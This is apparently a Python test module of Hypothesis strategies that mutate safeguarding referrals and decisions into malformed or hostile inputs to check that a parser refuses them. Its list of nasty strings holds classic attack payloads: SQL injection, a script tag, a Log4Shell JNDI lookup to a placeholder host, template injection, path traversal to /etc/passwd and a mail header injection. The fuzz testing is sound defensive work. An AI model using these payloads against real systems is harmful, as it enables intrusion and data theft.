"""Hypothesis strategies for malformed and hostile referrals and decisions.

Each example is a `Hostile`: the payload, whether it must be refused, and the field the refusal
must name. A payload is built from a valid referral or decision by one mutation: a missing field,
a value of the wrong type, text that is too long, deeply nested lists, control characters and
null bytes, an unknown kind or option, an extra field, a date that is not a date, or not a JSON
object at all. The "anything" mutations (any JSON value in any field, numbers as strings, hostile
but well-formed text) may happen to be valid: those need only be refused cleanly or accepted.
"""

from __future__ import annotations

import copy
import re
from dataclasses import dataclass
from datetime import date, timedelta
from typing import Any

from hypothesis import strategies as st

from safeguarding import horizon
from safeguarding.decisions import DECISION_MODELS, MAX_DECISION_BYTES, SET_BY_INTERFACE
from safeguarding.referral import MAX_REFERRAL_BYTES, Referral
from safeguarding.vocabulary import Agency, DecisionKind, Role
from tests.factories import CHAIR, referral_data, sample_fields

RECEIVED_ON = date(2026, 11, 20)
#: Words that are valid somewhere: a "bad option" is never one of them.
VOCABULARY = (
    {r.value for r in Role} | {a.value for a in Agency} | {"death", "serious_harm", "other"}
)

#: Text an attacker (or a careless paste) tries first.
NASTY = [
    "",
    " ",
    "\x00",
    "nul\x00inside",
    "\x1b[2J\x1b[31mred",
    "\u202eevil\u202c",
    "\ufeff",
    "\u200b",
    "null",
    "None",
    "NaN",
    "Infinity",
    "-1",
    "0",
    "1e309",
    "true",
    "{}",
    "[]",
    "'; DROP TABLE cases; --",
    "<script>alert(1)</script>",
    "${jndi:ldap://example.invalid/a}",
    "{{7*7}}",
    "../../etc/passwd",
    "%s%s%n",
    "\r\nBcc: victim@example.org",
    "😀" * 50,
]

#: Every Unicode scalar value (not surrogates), control characters and NUL included.
ANY_CHARACTER = st.characters(codec="utf-8")
hostile_text = st.one_of(st.sampled_from(NASTY), st.text(ANY_CHARACTER, max_size=40))
#: Keys for extra fields: never a real field name (checked where used).
hostile_keys = st.one_of(
    st.sampled_from(NASTY[1:]), st.text(ANY_CHARACTER, min_size=1, max_size=20)
)


def nested(depth: int, leaf: Any = 0) -> Any:
    value = leaf
    for _ in range(depth):
        value = [value]
    return value


#: Deep enough to hurt a naive recursive reader, shallow enough to serialise.
deep_lists = st.integers(10, 120).map(nested)
scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(2**70), 2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    hostile_text,
)
json_values = st.recursive(
    scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(hostile_text, inner, max_size=4),
    max_leaves=12,
)
#: Wrong for every field of every model here: no scalar, list of choices or model accepts them.
structured_wrong = st.one_of(
    deep_lists,
    st.dictionaries(hostile_keys, json_values, max_size=3),
)
not_an_object = st.one_of(json_values.filter(lambda v: not isinstance(v, dict)), deep_lists)
#: Not dates in any format pydantic reads as one.
bad_dates = st.one_of(
    st.sampled_from(
        [
            "0000-01-01",
            "2026-02-30",
            "2026-13-01",
            "2026-00-10",
            "10000-01-01",
            "-001-01-01",
            "2026/11/20",
            "20-11-2026",
            "2026-11-20T25:00",
            "",
            "today",
            "2026-W47",
            "\x002026-11-20",
        ]
    ),
    structured_wrong,
)
#: Longer than any text field allows (LongText: 4000 characters), under the 64 KiB limit.
too_long = st.integers(4_001, 30_000).map(lambda n: "A" * n)


@dataclass(frozen=True)
class Hostile:
    payload: Any
    #: It must be refused (otherwise it may also be accepted).
    must_fail: bool
    #: The refusal must name this field (None: any clear refusal).
    field: str | None
    how: str
    #: The day the referral is checked on (`parse_referral(today=...)`).
    today: date = RECEIVED_ON


def _required(model: type[Any]) -> list[str]:
    return [n for n, f in model.model_fields.items() if f.is_required() and n != "kind"]


# --------------------------------------------------------------------------- referrals

REFERRAL_FIELDS = list(Referral.model_fields)
REFERRAL_REQUIRED = _required(Referral)
REFERRAL_TEXT = ["summary", "late_reason"]
REFERRAL_DATES = ["received_on", "incident_on", "la_aware_on"]


def valid_referral() -> dict[str, Any]:
    return referral_data(RECEIVED_ON, partnership="LSCP")


def out_of_range(today: date, *, near: bool) -> st.SearchStrategy[date]:
    """Days a referral cannot be received on, seen from `today`: after it, or more than
    `horizon.REFERRAL_YEARS_BACK` years before it; over the whole calendar, the edges most
    often. `near=False` keeps a year away from the edges (for a check made on another day)."""
    after = today + timedelta(days=1 if near else 366)
    before = horizon.earliest_received(today) - timedelta(days=1 if near else 366)
    edges = [date.min, date(1, 1, 2), date(1900, 1, 1), date.max]
    if near:
        edges += [after, before]
    return st.one_of(
        st.sampled_from(edges),
        st.dates(min_value=after),
        st.dates(max_value=before),
    )


@st.composite
def hostile_referrals(draw: st.DrawFn, any_day: bool = False) -> Hostile:
    """With `any_day`, the referral is checked on a day drawn from the whole calendar (its
    dates move with it); otherwise on `RECEIVED_ON`."""
    today = (
        draw(st.dates(date(1, 1, 1) + timedelta(days=366 * 30), date(9999, 1, 1)))
        if any_day
        else RECEIVED_ON
    )
    data = referral_data(today, partnership="LSCP")
    how = draw(
        st.sampled_from(
            [
                "not_object",
                "missing",
                "wrong_type",
                "too_long",
                "bad_date",
                "out_of_range",
                "extra",
                "bad_partnership",
                "bad_child",
                "too_many_children",
                "unknown_option",
                "anything",
                "hostile_text",
            ]
        )
    )
    if how == "not_object":
        return Hostile(draw(not_an_object), True, None, how, today)
    if how == "missing":
        field = draw(st.sampled_from(REFERRAL_REQUIRED))
        del data[field]
        return Hostile(data, True, field, how, today)
    if how == "wrong_type":
        field = draw(st.sampled_from(REFERRAL_FIELDS))
        data[field] = draw(structured_wrong)
        return Hostile(data, True, field, how, today)
    if how == "too_long":
        field = draw(st.sampled_from(REFERRAL_TEXT))
        data[field] = draw(too_long)
        return Hostile(data, True, field, how, today)
    if how == "bad_date":
        field = draw(st.sampled_from(REFERRAL_DATES))
        data[field] = draw(bad_dates)
        return Hostile(data, True, field, how, today)
    if how == "out_of_range":  # received after today, or implausibly long ago
        data["received_on"] = draw(out_of_range(today, near=any_day)).isoformat()
        return Hostile(data, True, "received_on", how, today)
    if how == "extra":
        key = draw(hostile_keys.filter(lambda k: k not in REFERRAL_FIELDS))
        data[key] = draw(json_values)
        return Hostile(data, True, key if key.isprintable() else None, how, today)
    if how == "bad_partnership":
        code = draw(
            st.one_of(hostile_text, st.text(min_size=17)).filter(
                lambda c: not re.fullmatch(r"[A-Z][A-Z0-9_]{1,15}", c)
            )
        )
        data["partnership"] = code
        return Hostile(data, True, "partnership", how, today)
    if how == "bad_child":
        child = dict(data["children"][0])
        part = draw(st.sampled_from(["name", "age_years", "sex", "extra"]))
        if part == "name":
            child["name"] = draw(st.one_of(st.just(""), too_long, structured_wrong))
        elif part == "age_years":
            child["age_years"] = draw(
                st.one_of(st.integers(max_value=-1), st.integers(min_value=25), structured_wrong)
            )
        elif part == "sex":
            child["sex"] = draw(
                hostile_text.filter(lambda s: s not in ("female", "male", "unknown"))
            )
        else:
            child[draw(hostile_keys.filter(lambda k: k not in child))] = 1
        data["children"] = [child]
        return Hostile(data, True, "children", how, today)
    if how == "too_many_children":
        data["children"] = data["children"] * draw(st.integers(5, 50))
        return Hostile(data, True, "children", how, today)
    if how == "unknown_option":
        field = draw(st.sampled_from(["harm", "agencies_involved", "referrer"]))
        word = draw(hostile_text.filter(lambda w: w not in VOCABULARY))
        if field == "harm":
            data["harm"] = word
        elif field == "agencies_involved":
            data["agencies_involved"] = ["police", word or "?"]
        else:
            data["referrer"] = {**data["referrer"], "agency": word or "?"}
        return Hostile(data, True, field, how, today)
    if how == "anything":  # may happen to be valid (numbers as strings, say)
        field = draw(st.sampled_from(REFERRAL_FIELDS))
        data[field] = draw(st.one_of(json_values, st.integers().map(str)))
        return Hostile(data, False, None, how, today)
    # hostile but well-formed text: may be valid
    field = draw(st.sampled_from(["summary", "late_reason"]))
    data[field] = draw(hostile_text)
    return Hostile(data, False, None, how, today)


# --------------------------------------------------------------------------- decisions

KINDS = list(DecisionKind)
COMMON = ["decision_id", "by", "occurred_on", "note", "attendees"]


def valid_decision(kind: DecisionKind, decision_id: str = "h-1") -> dict[str, Any]:
    payload: dict[str, Any] = {
        "kind": kind.value,
        "decision_id": decision_id,
        "by": CHAIR.model_dump(mode="json"),
    }
    payload.update(copy.deepcopy(sample_fields(kind)))
    return payload


def own_fields(kind: DecisionKind) -> list[str]:
    """The fields a sender fills in (not `via`, which each interface sets for itself)."""
    return [
        n
        for n in DECISION_MODELS[kind].model_fields
        if n != "kind" and n not in COMMON and n not in SET_BY_INTERFACE
    ]


@st.composite
def hostile_decisions(
    draw: st.DrawFn, kinds: list[DecisionKind] | None = None, refused_only: bool = False
) -> Hostile:
    """Hostile decisions; with `refused_only` only those that must be refused."""
    kind = draw(st.sampled_from(kinds or KINDS))
    data = valid_decision(kind, draw(st.from_regex(r"h-[a-z0-9]{1,12}", fullmatch=True)))
    mutations = [
        "not_object",
        "no_kind",
        "unknown_kind",
        "bad_decision_id",
        "missing",
        "bad_by",
        "wrong_type",
        "too_long",
        "bad_date",
        "extra",
    ]
    if not refused_only:
        mutations += ["anything", "hostile_text"]
    how = draw(st.sampled_from(mutations))
    if how == "not_object":
        return Hostile(draw(not_an_object), True, None, how)
    if how == "no_kind":
        del data["kind"]
        return Hostile(data, True, "kind", how)
    if how == "unknown_kind":
        data["kind"] = draw(
            st.one_of(hostile_text, structured_wrong, st.integers()).filter(
                lambda k: not isinstance(k, str) or k not in {d.value for d in DecisionKind}
            )
        )
        return Hostile(data, True, "kind", how)
    if how == "bad_decision_id":
        data["decision_id"] = draw(
            st.one_of(
                st.sampled_from(["", " ", "has space", "-leading-dash", "x" * 81, "a/b", "é"]),
                structured_wrong,
                hostile_text.filter(
                    lambda t: not re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._:-]{0,79}", t)
                ),
            )
        )
        return Hostile(data, True, "decision_id", how)
    if how == "missing":
        required = ["decision_id", "by", *_required(DECISION_MODELS[kind])]
        field = draw(st.sampled_from(sorted(set(required))))
        del data[field]
        return Hostile(data, True, field, how)
    if how == "bad_by":
        part = draw(st.sampled_from(["whole", "name", "role", "agency", "extra"]))
        if part == "whole":
            data["by"] = draw(st.one_of(structured_wrong, hostile_text))
        elif part == "name":
            data["by"] = {**data["by"], "name": draw(st.one_of(st.just(""), too_long))}
        elif part in ("role", "agency"):
            data["by"] = {
                **data["by"],
                part: draw(hostile_text.filter(lambda t: t not in VOCABULARY)),
            }
        else:
            data["by"] = {**data["by"], draw(hostile_keys.filter(lambda k: k != "name")): "x"}
        return Hostile(data, True, "by", how)
    if how == "wrong_type":
        field = draw(st.sampled_from([*own_fields(kind), "note", "occurred_on", "attendees"]))
        data[field] = draw(structured_wrong)
        return Hostile(data, True, field, how)
    if how == "too_long":
        data["note"] = draw(too_long)
        return Hostile(data, True, "note", how)
    if how == "bad_date":
        data["occurred_on"] = draw(bad_dates)
        return Hostile(data, True, "occurred_on", how)
    if how == "extra":
        fields = DECISION_MODELS[kind].model_fields
        key = draw(hostile_keys.filter(lambda k: k not in fields))
        data[key] = draw(json_values)
        return Hostile(data, True, key if key.isprintable() else None, how)
    if how == "anything":
        field = draw(st.sampled_from([*own_fields(kind), *COMMON]))
        data[field] = draw(st.one_of(json_values, st.integers().map(str)))
        return Hostile(data, False, None, how)
    data["note"] = draw(hostile_text)
    return Hostile(data, False, None, how)


# --------------------------------------------------------------------------- raw files

#: Bytes a file might hold instead of JSON.
raw_files = st.one_of(
    st.binary(max_size=200),
    st.text(ANY_CHARACTER, max_size=200).map(lambda t: t.encode("utf-8", "surrogatepass")),
    st.integers(1_000, 20_000).map(lambda d: (b"[" * d) + (b"]" * d)),  # nested too deep
    st.integers(1_000, 10_000).map(lambda d: b'{"a":' * d + b"1" + b"}" * d),
    st.sampled_from([b"", b"{", b'{"kind": "triage",}', b"NaN", b"\xef\xbb\xbf{}", b"\x00"]),
)


def oversized_referral() -> dict[str, Any]:
    """A referral of more than 64 KiB (its summary alone)."""
    return {**valid_referral(), "summary": "A" * (MAX_REFERRAL_BYTES + 1)}


def oversized_decision(kind: DecisionKind = DecisionKind.TRIAGE) -> dict[str, Any]:
    """A decision of more than 64 KiB (its note alone)."""
    return {**valid_decision(kind, "h-oversized"), "note": "A" * (MAX_DECISION_BYTES + 1)}
